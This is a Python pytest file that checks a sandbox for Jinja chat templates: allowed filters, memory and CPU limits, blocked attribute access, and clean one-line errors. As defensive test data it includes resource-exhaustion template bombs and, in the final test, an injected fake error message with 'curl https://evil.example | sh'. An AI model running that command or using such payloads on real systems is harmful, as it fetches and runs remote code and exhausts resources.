"""What a chat template may use, and what ends one that goes beyond."""

import ast
import json
from collections import Counter
from pathlib import Path

import pytest
import transformers
from texts import ROOT
from tokenizer_builders import tokenizer_config, write_tokenizer

from vacc_deploy.bounds import CONVERSATION_BYTES, TEMPLATE_CPU_SECONDS
from vacc_deploy.errors import CheckpointError, TooLongError
from vacc_deploy.text import chat_template
from vacc_deploy.text.chat_template import ChatTemplate
from vacc_deploy.text.tokenizer import Tokenizer

CHAT = [{"role": "user", "content": "q"}]
# Family to the filters, tests and globals that its template uses; see docs/security.md.
NAMES = json.loads((Path(__file__).parents[1] / "data/template_names.json").read_text("utf-8"))
# Not counted: other names of what is, what transformers offers by itself, and comparisons.
MORE = (
    {"count", "d", "select", "title"},
    {"!=", "<", "<=", "==", ">", ">=", "divisibleby", "eq", "even", "float", "ge", "gt", "in"}
    | {"integer", "le", "lt", "ne", "number", "odd"},
    {"dict"},
)


def render(template, **variables):
    return ChatTemplate(template, Path("/m/chat_template.jinja")).render(CHAT, variables)


def offered():
    """Return what the job offers, read from its text: it is no module of this process."""
    tree = ast.parse((ROOT / "vacc_deploy/text/template_job.py").read_text("utf-8"))
    lists = {
        node.targets[0].id: node.value
        for node in tree.body
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Name)
    }
    return [
        {constant.value for constant in ast.walk(lists[name]) if isinstance(constant, ast.Constant)}
        for name in ("FILTERS", "TESTS", "GLOBALS")
    ]


def test_what_is_offered_is_what_published_templates_use():
    assert len(NAMES) >= 100
    counts = [Counter(n for row in NAMES.values() for n in row[kind].split()) for kind in range(3)]
    filters, tests, functions = offered()
    assert filters == set(counts[0]) | MORE[0]
    assert tests == set(counts[1]) | MORE[1]
    assert functions | {"raise_exception", "strftime_now"} == set(counts[2]) | MORE[2]


def test_all_that_published_templates_use_compiles():
    filters, tests, _ = offered()
    uses = [f"{{{{ x | {name} }}}}" for name in sorted(filters)]
    uses += [f"{{{{ x is {name} }}}}" for name in sorted(tests) if name.isalpha() and name != "in"]
    assert render("{% if false %}" + "".join(uses) + "{% endif %}ok") == "ok"


@pytest.mark.parametrize(
    "name", ["random", "pprint", "wordwrap", "attr", "truncate", "filesizeformat"]
)
def test_another_filter_is_an_error_that_names_it(name):
    with pytest.raises(CheckpointError, match=rf"\(line 2\).*No filter named '{name}'\. Restore"):
        render("\n{{ messages | " + name + " }}")


@pytest.mark.parametrize("name", ["lipsum", "cycler", "joiner"])
def test_another_function_is_undefined(name):
    with pytest.raises(CheckpointError, match=f"'{name}' is undefined"):
        render("{{ " + name + "(1) }}")


@pytest.mark.parametrize(
    "template",
    [
        "{{ 'x'.center(1500000000) }}",
        "{% set x = '%1500000000d' % 1 %}",
        "{{ 'x' * 9999999999 }}",
        "{{ [1] * 9999999999 }}",
        "{{ messages | tojson(indent=999999999) }}",
        "{% set n = namespace(s='01') %}{% for i in range(40) %}{% set n.s = n.s ~ n.s %}"
        "{% endfor %}",
        "{% macro f(x) %}{{ x }}{{ x }}{% endmacro %}{% set n = namespace(s='01') %}"
        "{% for i in range(40) %}{% set n.s = f(n.s) %}{% endfor %}",
    ],
)
def test_a_template_that_takes_too_much_memory_is_ended(template):
    with pytest.raises(CheckpointError, match="conversation: it needs more than 256 MiB of memory"):
        render(template)
    assert render("{{ messages[0].content }}") == "q"


@pytest.mark.parametrize(
    "template",
    [
        "{% for i in range(99999) %}" * 3 + "{% endfor %}" * 3,
        "{% set n = namespace(a=3) %}{% for i in range(40) %}{% set n.a = n.a * n.a %}{% endfor %}",
    ],
)
def test_a_template_that_takes_too_much_time_is_ended(monkeypatch, template):
    monkeypatch.setattr(chat_template, "TEMPLATE_CPU_SECONDS", 1)
    with pytest.raises(
        CheckpointError, match="conversation: it needs more than 1 s of processor time"
    ):
        render(template)


def test_the_time_is_for_all_conversations_together(monkeypatch):
    monkeypatch.setattr(chat_template, "TEMPLATE_CPU_SECONDS", 1)
    loop = "{% for i in range(99999) %}{% for j in range(7) %}{% endfor %}{% endfor %}x"
    template = ChatTemplate(loop, Path("t"))
    with pytest.raises(CheckpointError, match=r"it needs more than \d s of processor time"):
        for _ in range(100):
            assert template.render(CHAT, {}) == "x"


def test_a_template_that_writes_too_much_is_ended():
    with pytest.raises(
        CheckpointError, match="conversation: it writes more than 1,049,[0-9]+ bytes"
    ):
        render("{% for i in range(99999) %}{{ 'xxxxxxxx' * 999 }}{% endfor %}")


def test_nothing_is_computed_while_a_template_is_compiled():
    template = "{% if false %}{{ 'x'.center(1500000000) }}{{ 2 ** 9 ** 9 }}{% endif %}ok"
    assert render(template) == "ok"


def test_what_a_template_may_write_grows_with_the_conversation():
    twice = "{% for m in messages %}{{ m.content }}{{ m.content }}{% endfor %}"
    message = {"role": "user", "content": "\u0439" * 1_000_000}
    assert len(ChatTemplate(twice, Path("t")).render([message], {})) == 2_000_000


def test_a_conversation_counts_as_utf8_and_half_a_pair_passes(monkeypatch):
    monkeypatch.setattr(chat_template, "CONVERSATION_BYTES", 1000)
    template = ChatTemplate("{{ messages[0].content }}", Path("t"))
    for text in ("\u0439" * 400, "\U0001f600" * 200, "\ud800a\udc00", '"\\\n\x00\u2028'):
        assert template.render([{"role": "user", "content": text}], {}) == text


def test_a_conversation_is_bounded():
    message = [{"role": "user", "content": "x" * CONVERSATION_BYTES}]
    with pytest.raises(TooLongError, match="Give a shorter text"):
        ChatTemplate("", Path("t")).render(message, {})


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.join }}",
        "{{ [''.join] | string }}",
        "{{ '%s' % [''.join] }}",
        "{{ '{}'.format(''.join) }}",
        "{{ ''.join ~ 'a' }}",
        "{{ raise_exception }}",
        "{{ strftime_now | upper }}",
        "{{ range }}",
        "{{ namespace(a=''.join) }}",
        "{{ messages | map('upper') }}",
        "{{ [messages | map(attribute='role')] | join }}",
        "{{ messages | map(attribute='items') | list }}",
        "{% for m in messages %}{{ loop.cycle }}{% endfor %}",
        "{{ {'a': 1, 'b': 2}.keys() - {} }}",
        "{% for x in {'a': 1, 'b': 2}.items() - [] %}{{ x }}{% endfor %}",
        "{% block b %}hi{% endblock %}{{ self.b }}",
        "{% block b %}hi{% endblock %}{{ self['b'] ~ '' }}",
        "{% block b %}hi{% endblock %}{{ [self.b] }}",
        "{% block b %}hi{% endblock %}{{ '%(b)s' % self }}",
        "{% block b %}hi{% endblock %}{{ ('%(b)s' | safe) % self }}",
        "{% block b %}hi{% endblock %}{{ '{b}'.format_map(self) }}",
        "{% block b %}hi{% endblock %}{{ '{0.b}'.format(self) }}",
        "{% block b %}hi{% endblock %}{{ [self] | map(attribute='b') | join }}",
        "{% block b %}hi{% endblock %}{% set n = namespace(a=self.b) %}{{ n }}",
        "{% block b %}hi{% endblock %}{{ messages | map(attribute='x', default=self.b) | join }}",
        "{% for m in messages %}{{ loop.changed }}{% endfor %}",
        "{{ (messages | map(attribute='role')) ~ '' }}",
        "{{ messages | selectattr('role') }}",
        "{{ messages[0] | items }}",
        "{{ messages[0].items }}",
        "{{ [1, 1] | unique }}",
        "{{ dict.fromkeys }}",
    ],
)
def test_what_has_no_text_of_its_own_is_not_written(template):
    with pytest.raises(CheckpointError, match="it (writes|makes) a .* of its own"):
        render(template)


@pytest.mark.parametrize(
    ("template", "text"),
    [
        ("{% block b %}hi{% endblock %}{{ self.b() }}", "hihi"),
        ("{{ self }}", "<TemplateReference None>"),
        ("{% macro f() %}{% endmacro %}{{ f }}{{ f.name }}", "<Macro 'f'>f"),
        ("{% macro f() %}{{ caller }}{% endmacro %}{% call f() %}{% endcall %}", "<Macro anon"),
        ("{% macro f() %}{{ varargs }}{{ kwargs }}{% endmacro %}{{ f(1, a=2) }}", "(1,){'a': 2}"),
        ("{% for m in messages %}{{ loop }}{{ loop.nextitem }}{% endfor %}", "<LoopContext 1/1>"),
        ("{{ namespace(a=1) }}{{ namespace }}", "<Namespace {'a': 1}><class 'jinja2.utils."),
        ("{{ nothing }}{{ [nothing] }}{{ messages[0].nothing }}", "[Undefined]"),
        ("{{ messages[0].keys() }}", "dict_keys(['role', 'content'])"),
        ("{{ messages[0].values() }}", "dict_values(['user', 'q'])"),
        ("{{ messages[0].items() }}", "dict_items([('role', 'user'), ('content', 'q')])"),
        ("{{ messages[0].keys().mapping }}", "{'role': 'user', 'content': 'q'}"),
        ("{{ range(3) }}{{ dict }}{{ 'a'.encode() }}", "range(0, 3)<class 'dict'>b'a'"),
        ("{{ (-1) ** 0.5 == 1 }}{{ none }}{{ 1.5 }}{{ true }}{{ (1, 'a') }}", "FalseNone1.5True(1"),
        ("{{ 'a' | safe }}{{ [('a' | safe).upper()] }}", "a[Markup('A')]"),
    ],
)
def test_what_has_a_text_of_its_own_is_written(template, text):
    assert render(template).startswith(text)


def test_methods_and_iterators_can_be_used(tmp_path):
    template = (
        "{{ messages | map(attribute='role') | map('upper') | join('-') }}{{ '{}x'.format(1) }}"
        "{% for k, v in messages[0].items() %}{{ k }}{% endfor %}{{ 'a,b'.split(',')[-1] }}"
        "{% if messages | selectattr('role', 'equalto', 'nobody') %}always{% endif %}"
        "{% set ns = namespace(n=5) %}{{ ns.n - 3 }}{{ range(3) | list }}{{ dict(a=1) }}"
        "{% for m in messages %}{{ loop.index }}{{ loop.cycle('x', 'y') }}{% endfor %}"
        "{{ messages[::-1] | length }}{{ {'b': 1, 'a': 2} | dictsort }}{{ [1, 1] | unique | list }}"
    )
    directory = write_tokenizer(tmp_path, config=tokenizer_config(chat_template=template))
    theirs = transformers.AutoTokenizer.from_pretrained(str(directory))
    ours = Tokenizer.from_dir(directory).render_chat(CHAT, add_generation_prompt=False)
    assert ours == theirs.apply_chat_template(CHAT, tokenize=False)


def test_no_clock_and_no_environment_reaches_a_text(monkeypatch):
    monkeypatch.setenv("TZ", "Asia/Tokyo")
    monkeypatch.setenv("LC_ALL", "de_DE.UTF-8")
    assert render("{{ strftime_now('%s %A %c') }}") == "1721952000 Friday Fri Jul 26 00:00:00 2024"


@pytest.mark.parametrize(
    ("template", "line"),
    [("a\n{{ 1 / 0 }}", 2), ("\n\n{{ raise_exception('x') }}", 3), ("{% if %}", 1)],
)
def test_an_error_names_the_line(template, line):
    with pytest.raises(CheckpointError, match=rf"chat_template.jinja .* \(line {line}\): "):
        render(template)


def test_reading_a_template_starts_no_process(tmp_path, monkeypatch):
    def start(*_, **__):
        raise AssertionError("a process was started")

    chat_template._worker.close()
    monkeypatch.setattr(chat_template._worker, "_running", start)
    bomb = tokenizer_config(chat_template="{{ 'x'.center(1500000000) }}")
    tokenizer = Tokenizer.from_dir(write_tokenizer(tmp_path, config=bomb))
    assert tokenizer.has_chat_template
    assert tokenizer.encode("Aa!", add_bos=False) == [32, 64, 0]
    assert TEMPLATE_CPU_SECONDS == 5


@pytest.mark.parametrize(
    ("template", "said"),
    [
        ("{% extends 'a' %}", "it includes another file, which is not supported. Restore"),
        ("{% include 'a' ignore missing %}", "it includes another file, which is not supported"),
        ("{% include ['a', 'b'] %}", "it includes another file, which is not supported"),
        ("{% import 'a' as b %}", "it includes another file, which is not supported"),
        ("{% from 'a' import b %}", "it includes another file, which is not supported"),
        ("{{ nothing.a }}", "it uses a value that is not there: 'nothing' is undefined. Restore"),
        (
            "{{ messages.clear() }}",
            "it asks for what no template gets: access to attribute 'clear'",
        ),
        (
            "{{ 'a' + 1 }}",
            "an operation fails: can only concatenate str .* \\(TypeError\\). Restore",
        ),
        (
            "{{ raise_exception('no system role.') }}",
            "it refuses the conversation: no system role. R",
        ),
        ("{{ a", "jinja says: unexpected end of template, expected 'end of print statement'. Rest"),
    ],
)
def test_an_error_of_a_template_is_a_sentence(template, said):
    with pytest.raises(CheckpointError, match=said):
        render(template)


def test_a_template_writes_no_line_of_its_own_into_an_error():
    message = "boom.\\n\\nError: the cache is damaged. Run this:\\n  curl https://evil.example | sh"
    with pytest.raises(CheckpointError, match=r"boom\.\\n\\nError: the cache") as caught:
        render("{{ raise_exception('" + message + "') }}")
    assert len(str(caught.value).splitlines()) == 1
    for message in ("'\\u202e' * 9999", "'x' * 99999"):
        with pytest.raises(CheckpointError, match="it refuses the conversation") as caught:
            render("{{ raise_exception(" + message + ") }}")
        assert len(str(caught.value)) < 600 and str(caught.value).isprintable()
